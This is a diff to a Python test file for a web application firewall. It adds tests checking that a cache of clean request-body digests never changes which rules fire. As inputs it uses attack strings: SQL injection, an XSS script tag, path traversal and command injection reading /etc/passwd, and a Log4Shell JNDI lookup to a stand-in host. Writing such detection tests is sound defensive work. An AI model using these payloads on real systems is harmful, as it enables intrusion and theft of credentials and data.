@@ -2,13 +2,15 @@
 
 from __future__ import annotations
 
+import json
 from typing import Any
 
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from bastion.addresses import request_addresses
 from bastion.waf import load_ruleset
-from bastion.waf.verdicts import CleanParts
+from bastion.waf.verdicts import DIGEST_ADDRESSES, CleanParts
 
 HEADERS = "server.request.headers.no_cookies"
 QUERY = "server.request.query"
@@ -214,6 +216,65 @@ def test_texts_under_a_key_some_rule_reads_by_path_are_never_left_out() -> None:
     assert fired(ruleset, {BODY: {"role": "admin"}}) == ["role"]
 
 
+def _body_request(body: bytes, content_type: str = "application/json") -> dict[str, Any]:
+    return request_addresses("POST", "/api/orders", [("content-type", content_type)], body)
+
+
+_ORDER = json.dumps({"items": [{"sku": f"A-{i}", "qty": i, "note": "gift wrap please"}
+                               for i in range(20)]}).encode()
+
+
+def test_a_body_sent_again_byte_for_byte_is_known_clean_whole() -> None:
+    ruleset = load_ruleset()
+    request = _body_request(_ORDER)
+    digest = request[DIGEST_ADDRESSES[BODY]]
+    assert fired(ruleset, request) == []
+    assert ruleset.clean_parts.knows_digest(BODY, digest)
+    # the same bytes parsed as another type, or other bytes, are other bodies
+    assert _body_request(_ORDER, "application/json; charset=utf-8")[
+        DIGEST_ADDRESSES[BODY]] != digest
+    assert _body_request(_ORDER + b" ")[DIGEST_ADDRESSES[BODY]] != digest
+    attack = _ORDER.replace(b"gift wrap please", b"1' UNION SELECT password FROM users--", 1)
+    assert fired(ruleset, _body_request(attack)) != []
+    assert fired(ruleset, request) == []
+
+
+def test_a_body_with_an_attack_is_not_remembered_whole_and_fires_again() -> None:
+    ruleset = load_ruleset()
+    attack = _body_request(json.dumps({"note": "<script>alert(1)</script>"}).encode())
+    first = fired(ruleset, attack)
+    assert first != []
+    assert not ruleset.clean_parts.knows_digest(BODY, attack[DIGEST_ADDRESSES[BODY]])
+    assert fired(ruleset, attack) == first
+
+
+def test_a_body_that_met_one_condition_of_two_is_not_remembered_whole() -> None:
+    """The body alone matches nothing that fires, but it is not clean: with the header the
+    rule needs, the same body must still count."""
+    rule = regex_rule("r1", BODY, "^alpha$")
+    rule["conditions"].append(regex_rule("-", HEADERS, "^beta$", ["x-b"])["conditions"][0])
+    ruleset = load_ruleset({"version": "2.2", "rules": [rule]})
+    body = json.dumps({"a": "alpha"}).encode()
+    request = _body_request(body)
+    assert fired(ruleset, request) == []
+    assert not ruleset.clean_parts.knows_digest(BODY, request[DIGEST_ADDRESSES[BODY]])
+    with_header = _body_request(body)
+    with_header[HEADERS]["x-b"] = "beta"
+    assert fired(ruleset, with_header) == ["r1"]
+
+
+def test_digests_are_forgotten_with_the_rest_when_the_memory_is_full() -> None:
+    memory = CleanParts(capacity=3)
+    memory.remember_digests([(BODY, b"1" * 16), (BODY, b"2" * 16)])
+    assert memory.knows_digest(BODY, b"1" * 16) and len(memory) == 2
+    memory.remember_digests([(BODY, b"3" * 16), (BODY, b"4" * 16)])
+    assert not memory.knows_digest(BODY, b"1" * 16)
+    assert memory.knows_digest(BODY, b"4" * 16) and len(memory) == 2
+    forgetful = CleanParts(0)
+    forgetful.remember_digests([(BODY, b"1" * 16)])
+    assert not forgetful.knows_digest(BODY, b"1" * 16)
+
+
 _VALUES = ("shoes", "42", "O'Brien", "café au lait", "1' OR '1'='1", "<script>alert(1)</script>",
            "../../../etc/passwd", "; cat /etc/passwd", "${jndi:ldap://x.example/a}",
            "1 UNION SELECT password FROM users--", "price desc")
@@ -243,3 +304,17 @@ def test_remembering_never_changes_what_fires(requests: list[tuple[dict[str, str
         if cookies:
             addresses[_COOKIE] = {k: [v] for k, v in cookies.items()}
         assert fired(remembering, addresses) == fired(forgetful, addresses)
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.lists(
+    st.dictionaries(st.sampled_from(("note", "name", "role")), st.sampled_from(_VALUES),
+                    min_size=1),
+    min_size=2, max_size=6,
+).map(lambda bodies: bodies + bodies))  # each body comes back byte for byte
+def test_bodies_sent_again_fire_as_without_memory(bodies: list[dict[str, str]]) -> None:
+    remembering, forgetful = _BUNDLED
+    remembering.clean_parts = CleanParts()
+    for body in bodies:
+        request = _body_request(json.dumps(body).encode())
+        assert fired(remembering, request) == fired(forgetful, request)
